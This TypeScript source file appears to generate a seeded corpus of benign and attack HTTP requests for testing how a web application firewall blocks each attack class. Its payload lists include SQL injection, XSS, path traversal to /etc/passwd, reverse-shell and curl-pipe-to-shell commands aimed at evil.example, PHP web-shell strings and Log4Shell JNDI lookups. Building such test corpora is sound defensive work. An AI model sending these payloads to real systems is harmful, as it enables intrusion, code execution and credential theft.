// A deterministic corpus of HTTP/1.1 requests for the WAF: benign traffic and attacks of each
// class CRS detects, placed in query args, form bodies, JSON bodies, cookies and headers. Every
// request carries the class it was written as, so a report can give block rates per class and a
// differential test can compare two WAFs on the same bytes. Same seed, same corpus.

export type AttackClass = "benign" | "sqli" | "xss" | "lfi" | "rce" | "php" | "java" | "scanner" | "protocol";
export type Location = "query" | "form" | "json" | "cookie" | "header" | "path" | "line";

export interface CorpusRequest {
  /** Position in the corpus (stable for a seed). */
  n: number;
  class: AttackClass;
  location: Location;
  /** The payload as written, before any encoding. */
  payload: string;
  /** The request as it goes on the wire. */
  bytes: Buffer;
}

/** mulberry32: small, seedable, the same on every platform. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SQLI = [
  "1' OR '1'='1", "1 OR 1=1", "' OR 1=1-- -", "admin'--", "1; DROP TABLE users--", "1 UNION SELECT username, password FROM users",
  "-1' UNION ALL SELECT NULL,NULL,version()-- -", "1' AND SLEEP(5)#", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)", "1' AND extractvalue(1,concat(0x7e,user()))-- ",
  "1;WAITFOR DELAY '0:0:5'--", "' OR 'a'='a", "1' ORDER BY 3--", "') OR ('1'='1", "1' AND 1=CONVERT(int,@@version)--",
  "1 AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1))>64", "' UNION SELECT table_name FROM information_schema.tables--",
  "1' AND BENCHMARK(5000000,MD5(1))#", "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "1)) OR 1=1 LIMIT 1 -- -", "' HAVING 1=1--",
  "1' GROUP BY columnnames having 1=1 --", "'; EXEC xp_cmdshell('dir')--", "1 or sleep(5)#", "\" or \"\"=\"", "1' or pg_sleep(5)--",
  "SELECT * FROM users WHERE id = 1", "1'/**/OR/**/1=1#", "1' AnD 1=1 UnIoN SeLeCt 1,2,3--", "0x50 or 1=1",
];
const XSS = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>", "javascript:alert(1)", "\"><script>alert(String.fromCharCode(88,83,83))</script>",
  "<body onload=alert('XSS')>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">x</a>", "<div style=\"background:url(javascript:alert(1))\">",
  "'><img src=1 onerror=prompt(1)>", "<details open ontoggle=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
  "<script src=//evil.example/x.js></script>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=javascript:alert(1)>",
  "<marquee onstart=alert(1)>", "<video><source onerror=\"alert(1)\">", "{{constructor.constructor('alert(1)')()}}", "<ScRiPt>alert(1)</sCrIpT>",
  "document.cookie", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">", "<style>@import'javascript:alert(1)';</style>",
];
const LFI = [
  "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252f..%252fetc%252fpasswd",
  "/proc/self/environ", "../../../../../../boot.ini", "file:///etc/passwd", "/var/log/apache2/access.log", "..%c0%af..%c0%afetc/passwd", "../../../.htaccess",
  "C:\\Windows\\System32\\drivers\\etc\\hosts", "/etc/hosts", "../../WEB-INF/web.xml", "php://filter/convert.base64-encode/resource=index.php", "/.git/config", "../../../../../etc/passwd%00",
];
const RCE = [
  ";cat /etc/passwd", "| id", "`whoami`", "$(cat /etc/passwd)", "; ls -la /", "&& wget http://evil.example/x.sh -O /tmp/x", "|| nc -e /bin/sh 10.0.0.1 4444", "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
  "; curl http://evil.example/shell | sh", "| powershell -enc SQBFAFgA", "& ping -n 10 127.0.0.1 &", "; /bin/busybox telnetd", "$(sleep 5)", "; echo vulnerable > /tmp/x", "| type C:\\Windows\\win.ini",
  "; python -c 'import os;os.system(\"id\")'", "${IFS}cat${IFS}/etc/passwd", "; nslookup evil.example", "& cmd.exe /c dir", "; chmod 777 /tmp/x; /tmp/x", "() { :; }; /bin/bash -c 'id'",
];
const PHP = [
  "<?php system($_GET['c']); ?>", "<?= phpinfo() ?>", "php://input", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "eval(base64_decode('cGhwaW5mbygpOw=='))", "system('id')", "assert($_POST['x'])",
  "file_get_contents('/etc/passwd')", "$_SERVER['HTTP_USER_AGENT']", "preg_replace('/.*/e','system(\"id\")','')", "phar://./uploads/x.jpg", "allow_url_include=1", "expect://id", "call_user_func('system','id')",
  "shell_exec('ls')", "include('http://evil.example/x.txt')", "passthru('cat /etc/passwd')", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
];
const JAVA = [
  "${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example/x}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}", "java.lang.Runtime.getRuntime().exec(\"id\")", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
  "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw", "java.lang.ProcessBuilder", "${T(java.lang.Runtime).getRuntime().exec('id')}",
  "#{session.setAttribute(\"a\",\"b\")}", "org.apache.commons.collections.functors.InvokerTransformer", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "javax.naming.InitialContext", "${env:AWS_SECRET_ACCESS_KEY}",
];
const SCANNER_UA = [
  "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nikto/2.5.0", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "ZmEu",
  "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
  "Acunetix-Product", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "Arachni/v1.5.1", "w3af.org", "OpenVAS", "havij", "commix/v3.8",
];
const BENIGN = [
  "hello world", "John O'Brien", "jane.doe@example.com", "42", "2026-12-02", "Blue running shoes, size 10", "The quick brown fox jumps over the lazy dog.", "Paris, France", "+1 (555) 010-9999",
  "What is the best way to cook rice?", "order-12345", "Café crème", "100% cotton", "rock & roll", "I'd like to return my order; it arrived damaged.", "Price: $19.99 (incl. tax)", "C++ and C# developers",
  "New York - Los Angeles", "SELECT your seat", "Drop us a line", "update my address please", "Tom & Jerry", "50/50", "email me at noreply@example.org", "https://example.com/page?x=1",
  "Lorem ipsum dolor sit amet, consectetur adipiscing elit", "true", "null", "#hashtag", "3.14159", "user_name", "The <b>bold</b> choice", "Where were you on 1/1?", "en-US,en;q=0.9", "MyPassword123",
];
const PARAMS = ["q", "id", "name", "search", "user", "page", "item", "comment", "email", "file", "redirect", "lang", "sort", "filter", "cat", "token"];
const PATHS = ["/", "/index.php", "/search", "/api/v1/items", "/login", "/products/view", "/account/profile", "/blog/post", "/cart", "/api/users"];
const BROWSER_UA = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
  "curl/8.5.0",
];

/** Protocol violations CRS's 920/921 rules look for, each a whole request (the payload names it). */
const PROTOCOL: [string, (path: string) => string][] = [
  ["disallowed method", (p) => `PROPFIND ${p} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
  ["numeric Host", (p) => `GET ${p} HTTP/1.1\r\nHost: 10.0.0.1\r\nAccept: */*\r\n`],
  ["invalid URL encoding", (p) => `GET ${p}?q=%zz%41 HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
  ["NUL byte in argument", (p) => `GET ${p}?q=a%00b HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
  ["restricted extension", (p) => `GET ${p.replace(/\/$/, "")}/backup.sql HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
  ["restricted header", (p) => `GET ${p} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nProxy: http://evil.example\r\n`],
  ["content type not allowed", (p) => `POST ${p} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nContent-Type: application/x-evil\r\nContent-Length: 3\r\n\r\na=b`],
  ["GET with a body", (p) => `GET ${p} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nContent-Length: 3\r\n\r\na=b`],
  ["many byte ranges", (p) => `GET ${p} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nRange: bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21,22-23,24-25,26-27,28-29,30-31\r\n`],
  ["charset not allowed", (p) => `POST ${p} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded; charset=utf-7\r\nContent-Length: 3\r\n\r\na=b`],
  ["HTTP/1.0 without Host", (p) => `GET ${p} HTTP/1.0\r\nAccept: */*\r\n`],
  ["response splitting in argument", (p) => `GET ${p}?lang=en%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
  ["request smuggling in argument", (p) => `GET ${p}?x=%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
  ["unicode full-width abuse", (p) => `GET ${p}?q=%uff1cscript%uff1e HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
  ["bad UTF-8 in argument", (p) => `GET ${p}?q=%c0%80%ff HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
  ["empty User-Agent", (p) => `GET ${p} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: \r\nAccept: */*\r\n`],
  ["multiple Content-Type values", (p) => `POST ${p} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Type: text/plain\r\nContent-Length: 3\r\n\r\na=b`],
  ["long argument name flood", (p) => `GET ${p}?${Array.from({ length: 300 }, (_, i) => `a${i}=1`).join("&")} HTTP/1.1\r\nHost: localhost\r\nAccept: */*\r\n`],
];

const ATTACKS: Record<Exclude<AttackClass, "benign" | "protocol" | "scanner">, string[]> = { sqli: SQLI, xss: XSS, lfi: LFI, rce: RCE, php: PHP, java: JAVA };

/** How many of each class a corpus of the default size has. */
export const CLASS_COUNTS: Record<AttackClass, number> = { benign: 2000, sqli: 700, xss: 600, lfi: 450, rce: 500, php: 350, java: 300, scanner: 200, protocol: 300 };

/** Application-style URL encoding (what a browser's form submission does). */
const formEncode = (s: string) => encodeURIComponent(s).replace(/%20/g, "+");

function build(method: string, target: string, headers: [string, string][], body?: string): Buffer {
  const all = [...headers];
  if (body !== undefined) all.push(["Content-Length", String(Buffer.byteLength(body))]);
  all.push(["Connection", "close"]);
  return Buffer.from(`${method} ${target} HTTP/1.1\r\n${all.map(([k, v]) => `${k}: ${v}\r\n`).join("")}\r\n${body ?? ""}`, "utf8");
}

/** Small variations attackers (and users) make, so the corpus is not the same few strings. */
function vary(s: string, r: () => number, cls: AttackClass): string {
  const x = r();
  if (cls === "benign") return x < 0.3 ? `${s} ${Math.floor(r() * 1000)}` : x < 0.4 ? s.toLowerCase() : s;
  if (x < 0.15) return s.replace(/[a-z]/g, (c) => (r() < 0.5 ? c.toUpperCase() : c));
  if (x < 0.25 && cls === "sqli") return s.replace(/ /g, "/**/");
  if (x < 0.35) return `${["abc", "1", "test", "x"][Math.floor(r() * 4)]}${s}`;
  if (x < 0.4) return s.replace(/ /g, "\t");
  return s;
}

/** The corpus: `CLASS_COUNTS` requests per class (or `scale` times them), interleaved in a seeded order. */
export function generateCorpus(seed = 19, scale = 1): CorpusRequest[] {
  const r = rng(seed);
  const pick = <T>(a: T[]): T => a[Math.floor(r() * a.length)];
  const plan: AttackClass[] = [];
  for (const [cls, n] of Object.entries(CLASS_COUNTS) as [AttackClass, number][]) for (let i = 0; i < Math.round(n * scale); i++) plan.push(cls);
  for (let i = plan.length - 1; i > 0; i--) {
    const j = Math.floor(r() * (i + 1));
    [plan[i], plan[j]] = [plan[j], plan[i]];
  }
  const locations: Location[] = ["query", "form", "json", "cookie", "header"];
  return plan.map((cls, n): CorpusRequest => {
    const path = pick(PATHS);
    const base: [string, string][] = [["Host", "localhost"], ["User-Agent", pick(BROWSER_UA)], ["Accept", "text/html,application/json;q=0.9,*/*;q=0.8"]];
    if (cls === "protocol") {
      const [name, make] = pick(PROTOCOL);
      const raw = make(path);
      const cut = raw.indexOf("\r\n\r\n");
      const text = cut < 0 ? `${raw}Connection: close\r\n\r\n` : `${raw.slice(0, cut)}\r\nConnection: close\r\n\r\n${raw.slice(cut + 4)}`;
      return { n, class: cls, location: "line", payload: name, bytes: Buffer.from(text, "latin1") };
    }
    if (cls === "scanner") {
      const ua = pick(SCANNER_UA);
      base[1] = ["User-Agent", ua];
      return { n, class: cls, location: "header", payload: ua, bytes: build("GET", `${path}?${pick(PARAMS)}=${Math.floor(r() * 100)}`, base) };
    }
    const payload = vary(cls === "benign" ? pick(BENIGN) : pick(ATTACKS[cls]), r, cls);
    const param = pick(PARAMS);
    const location = pick(locations);
    switch (location) {
      case "query":
        return { n, class: cls, location, payload, bytes: build("GET", `${path}?${param}=${formEncode(payload)}&p=${1 + Math.floor(r() * 9)}`, base) };
      case "form":
        return { n, class: cls, location, payload, bytes: build("POST", path, [...base, ["Content-Type", "application/x-www-form-urlencoded"]], `${param}=${formEncode(payload)}&submit=Send`) };
      case "json": {
        const doc = r() < 0.5 ? { [param]: payload, p: 1 } : { data: { items: [{ [param]: payload }] }, lang: "en" };
        return { n, class: cls, location, payload, bytes: build("POST", path, [...base, ["Content-Type", "application/json"]], JSON.stringify(doc)) };
      }
      case "cookie":
        // Cookie values cannot carry ';' or control bytes unencoded; apps percent-encode them.
        return { n, class: cls, location, payload, bytes: build("GET", path, [...base, ["Cookie", `session=abc123; ${param}=${encodeURIComponent(payload)}`]]) };
      default: {
        const name = pick(["Referer", "X-Forwarded-For", "X-Custom-Data", "User-Agent"]);
        const value = payload.replace(/[\r\n]/g, " ");
        const headers = base.filter(([k]) => k !== name);
        return { n, class: cls, location, payload, bytes: build("GET", path, [...headers, [name, name === "Referer" ? `https://example.com/?q=${value}` : value]]) };
      }
    }
  });
}
